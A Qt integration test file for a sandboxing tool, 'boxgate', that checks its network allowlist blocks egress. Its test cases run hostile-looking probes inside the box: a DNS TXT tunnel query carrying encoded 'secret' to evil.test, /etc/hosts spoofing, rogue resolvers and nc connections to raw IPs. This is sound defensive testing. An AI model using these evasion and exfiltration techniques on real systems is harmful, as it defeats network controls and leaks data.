#include <QTest> // first: moc of Qt 6.4 cannot read a standard header before Qt's

#include "tests/integration/gate/gateworld.h"
#include "tests/support/realhome.h"

#include <QCoreApplication>

#include <sys/socket.h>

using namespace boxgate::test;

namespace {

const QString Box = QStringLiteral("gated");
QString whyNot;

/// A database-like protocol: the client speaks first, in binary.
void database(int socket)
{
    if (receiveExactly(socket, 8) == QByteArray::fromHex("00000008 04d2162f"))
        sendAll(socket, "DB-OK\n");
}

/// An SSH-like protocol: the server speaks first.
void shell(int socket)
{
    sendAll(socket, "SSH-2.0-test\r\n");
    receiveExactly(socket, 3);
}

/// Answers a DNS query with 192.0.2.7, whatever it asks: something that speaks UDP to busybox.
QByteArray anyName(const QByteArray &query)
{
    QByteArray reply = query;
    reply[2] = char(reply[2] | 0x80);
    reply[7] = 1;
    return reply + QByteArray::fromHex("c00c 0001 0001 0000003c 0004 c0000207");
}

} // namespace

/// A real box behind an allowlist of `*.example.test`, and servers that see what reaches them.
class TestGateBox : public QObject
{
    Q_OBJECT

private:
    std::unique_ptr<GateWorld> m_world;
    std::unique_ptr<RealHome> m_home;
    std::unique_ptr<TlsServer> m_https;
    std::unique_ptr<TcpServer> m_ssh, m_database, m_rogueTcp;
    std::unique_ptr<UdpServer> m_udp, m_rogueUdp;

    /// In the box. The probe prints its own end, so that a missing tool cannot pass for "blocked".
    QByteArray inBox(const QString &command)
    {
        const Outcome outcome =
            m_home->boxgate({"exec", Box, "--", "sh", "-c", command + "; echo \"end $?\""});
        return outcome.exitCode == 0 ? outcome.out + outcome.err : outcome.toBytes();
    }
    QByteArray blockedList() { return m_home->boxgate({"net", "blocked", Box}).out; }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY2(whyNot.isEmpty(), qPrintable(whyNot));
        m_world = std::make_unique<GateWorld>();
        m_home = std::make_unique<RealHome>();
        m_https = std::make_unique<TlsServer>(GateWorld::Server, 443, "the page\n");
        QVERIFY2(m_https->error().isEmpty(), qPrintable(m_https->error()));
        m_ssh = std::make_unique<TcpServer>(GateWorld::Server, shell, 22);
        m_database = std::make_unique<TcpServer>(GateWorld::Server, database, 5432);
        m_udp = std::make_unique<UdpServer>(GateWorld::Server, anyName, 9999);
        m_rogueTcp = std::make_unique<TcpServer>(
            GateWorld::Rogue, [](int) {}, 53);
        m_rogueUdp = std::make_unique<UdpServer>(GateWorld::Rogue, anyName, 53);
        const Outcome started = m_home->boxgate(
            {"run", "-d", "--name", Box, "--memory", "256m", "--allow-net", "*.example.test", "--allow-net",
             "*.example.test:9999/udp", "--host-loopback", "off", "builtin/busybox"});
        QVERIFY2(started.exitCode == 0, started.toBytes());
    }

    void cleanupTestCase() { m_home.reset(); }

    // First, while no name has been asked for.
    void nothingByNumberBeforeItsNameWasAskedFor()
    {
        const QByteArray said = inBox(QStringLiteral("nc -w 3 198.51.100.10 22 </dev/null"));
        QVERIFY2(!said.contains("SSH") && said.contains("end 1"), said);
        QCOMPARE(m_ssh->accepted(), 0);
    }

    void httpsByName()
    {
        const QByteArray said =
            inBox(QStringLiteral("wget -qO- --no-check-certificate https://web.example.test/page"));
        QVERIFY2(said.contains("the page") && said.contains("end 0"), said);
        QCOMPARE(m_https->reached(), 1);
    }

    void aServerThatSpeaksFirst()
    {
        const QByteArray said = inBox(QStringLiteral("echo hi | nc -w 3 ssh.example.test 22"));
        QVERIFY2(said.contains("SSH-2.0-test"), said);
    }

    void aDatabaseOnAHighPort()
    {
        const QByteArray said = inBox(QStringLiteral(
            "printf '\\0\\0\\0\\010\\004\\322\\026\\057' | nc -w 3 deep.db.example.test 5432"));
        QVERIFY2(said.contains("DB-OK"), said);
    }

    void udpWhereARuleSaysUdp()
    {
        const QByteArray said = inBox(QStringLiteral(
            "nslookup udp.example.test >/dev/null; nslookup -type=a x.example.test 198.51.100.10:9999"));
        QVERIFY2(said.contains("192.0.2.7"), said);
        QVERIFY(m_udp->received() > 0);
    }

    void nothingByNumberWithoutANameInTheHello()
    {
        const int before = m_https->reached();
        const QByteArray said =
            inBox(QStringLiteral("wget -qO- --no-check-certificate https://198.51.100.10/page"));
        QVERIFY2(!said.contains("the page") && !said.contains("end 0"), said);
        QCOMPARE(m_https->reached(), before);
    }

    void nothingByAnotherName()
    {
        const int before = m_https->reached();
        const qsizetype asked = m_world->asked().size();
        const QByteArray said =
            inBox(QStringLiteral("wget -qO- --no-check-certificate https://other.test/page"));
        QVERIFY2(!said.contains("the page") && !said.contains("end 0"), said);
        QCOMPARE(m_https->reached(), before);
        QCOMPARE(m_world->asked().size(), asked);
    }

    void nothingByAnotherServerName()
    {
        const int before = m_https->reached();
        const QByteArray said =
            inBox(QStringLiteral("echo '198.51.100.10 evil.test' >> /etc/hosts; "
                                 "wget -qO- --no-check-certificate https://evil.test/page"));
        QVERIFY2(!said.contains("the page") && !said.contains("end 0"), said);
        QCOMPARE(m_https->reached(), before);
        // The control: the same way with a name that is allowed.
        const QByteArray control =
            inBox(QStringLiteral("wget -qO- --no-check-certificate https://web.example.test/page"));
        QVERIFY2(control.contains("the page"), control);
    }

    void nothingByAnotherResolver()
    {
        const QByteArray said = inBox(QStringLiteral(
            "nslookup -type=a web.example.test 198.51.100.20; nc -w 3 198.51.100.20 53 </dev/null"));
        QVERIFY2(said.contains("198.51.100.10"), said); // the box's own resolver has answered in its place
        QVERIFY2(!said.contains("192.0.2.7"), said);
        QCOMPARE(m_rogueUdp->received(), 0);
        QCOMPARE(m_rogueTcp->accepted(), 0);
    }

    void nothingByATxtTunnel()
    {
        const QByteArray said = inBox(QStringLiteral("nslookup -type=txt c2VjcmV0.evil.test"));
        QVERIFY2(said.contains("end "), said);
        QVERIFY(m_world->asked().filter(QStringLiteral("evil.test")).isEmpty());
        inBox(QStringLiteral("nslookup -type=txt control.example.test"));
        QVERIFY(!m_world->asked().filter(QStringLiteral("control.example.test")).isEmpty());
    }

    void allOfItIsExplained()
    {
        const QByteArray blocked = blockedList();
        for (const char *part : {"198.51.100.10", "evil.test", "other.test"})
            QVERIFY2(blocked.contains(part), blocked);
    }
};

int main(int argc, char **argv)
{
    whyNot = GateWorld::enter();
    QCoreApplication app(argc, argv);
    TestGateBox test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_gatebox.moc"
